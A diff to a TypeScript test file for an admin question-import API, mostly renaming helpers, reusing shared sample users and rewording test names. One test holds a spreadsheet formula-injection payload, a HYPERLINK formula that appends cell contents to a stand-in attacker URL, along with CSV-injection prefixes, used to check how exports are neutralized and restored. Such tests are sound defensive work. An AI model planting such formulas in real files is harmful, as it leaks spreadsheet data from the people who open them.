@@ -1,6 +1,7 @@
 import { isDeepStrictEqual } from "node:util";
 import { beforeEach, describe, expect, it } from "vitest";
 import * as z from "zod/mini";
+import { SAMPLE_USERS } from "../../../builders/sample-users.ts";
 import seed from "../../../sample.json" with { type: "json" };
 import { readFile } from "../../../../src/api/admin/formats/files/read-file.ts";
 import { ImportLine } from "../../../../src/api/admin/import-schema.ts";
@@ -8,12 +9,9 @@ import { addMockExams } from "../../../builders/mock-exams.ts";
 import { fillBank } from "../../../builders/bank.ts";
 import { buildProfile } from "../../../builders/catalogue.ts";
 import { rowsOf, startBackend, type CallAs, type BodyParts } from "../../../builders/calls.ts";
-import { Unavailable } from "../../store.ts";
+import { Unavailable } from "../../ports/store.ts";
 
-const ADMIN = 1;
-const INGE = 5;
-const LUIS = 6;
-const LEARNER = 7;
+const { admin: ADMIN, inge: INGE, luis: LUIS, learner: LEARNER } = SAMPLE_USERS;
 const T = "/api/admin/tenants/2";
 const CHECK = `${T}/questions/import?createMissing=1&dryRun=1`;
 const CHANGED = "The organization's questions have changed since the file was checked.";
@@ -228,7 +226,7 @@ describe("an import", () => {
     expect(await counts()).toEqual(before);
   });
 
-  it("of an export with formulas restores the texts that the export neutralized", async () => {
+  it("restores the texts with formulas that the export neutralized", async () => {
     const admin = await startBackend().as(ADMIN);
     const formula = '=HYPERLINK("http://evil.test/?"&A1)';
     const options = ["+1+1", "-2", "@SUM(A1)", "'=1"].map((text) => ({ text }));
@@ -298,7 +296,7 @@ describe("an import", () => {
     const refused = {
       verdict: "failed",
       path: "domain",
-      reason: "More than 1,000 certifications and domains would be made. Is this their column?",
+      reason: "More than 1,000 certifications and domains would be created. Is this their column?",
     };
     expect(verdicts.slice(999)).toEqual([refused, refused]);
     const again = await check(admin, [...rows.slice(0, 999), draft("Another in D 5", { domain: "d  5" })]);
@@ -442,7 +440,7 @@ describe("an import", () => {
     }
   });
 
-  it("that is refused is no longer in progress", async () => {
+  it("is no longer in progress after it was refused", async () => {
     for (let count = 0; count < 3; count += 1)
       expect((await admin("POST", CHECK, rowsOf([]))).status).toBe(400);
     expect((await check(admin, [draft("1")])).verdicts).toHaveLength(1);
@@ -455,7 +453,7 @@ describe("an import", () => {
       yield "0\n";
     };
     const other = CHECK.replace("/2/", "/1/");
-    expect((await backend.asNobody("POST", CHECK, parts)).status).toBe(401);
+    expect((await backend.anonymous("POST", CHECK, parts)).status).toBe(401);
     expect((await (await backend.as(LEARNER))("POST", CHECK, parts)).status).toBe(403);
     expect((await (await backend.as(INGE))("POST", other, parts)).status).toBe(404);
     expect(isRead).toBe(false);
@@ -512,7 +510,7 @@ it("finds all duplicates although a question is retired while the bank is read",
   let isRetiring = false;
   let retired: Promise<void> | undefined;
   const { as, store } = startBackend({
-    between: (inner) => ({
+    wrapStore: (inner) => ({
       ...inner,
       async read(work, options) {
         const result = await inner.read(work, options);
@@ -539,7 +537,7 @@ it("finds all duplicates although a question is retired while the bank is read",
 it("reports an import that can't be written, stores nothing and allows a retry", async () => {
   let fails = false;
   const { as, store } = startBackend({
-    between: (inner) => ({
+    wrapStore: (inner) => ({
       ...inner,
       tx: (work) =>
         inner.tx(async (tx) => {
@@ -564,7 +562,7 @@ describe("before an import gets the lock of its tenant", () => {
   function startInterrupted() {
     const interruption: { beforeLock?: () => Promise<unknown> } = {};
     const backend = startBackend({
-      between: (inner) => ({
+      wrapStore: (inner) => ({
         ...inner,
         tx: async (work, options) => {
           const { beforeLock } = interruption;
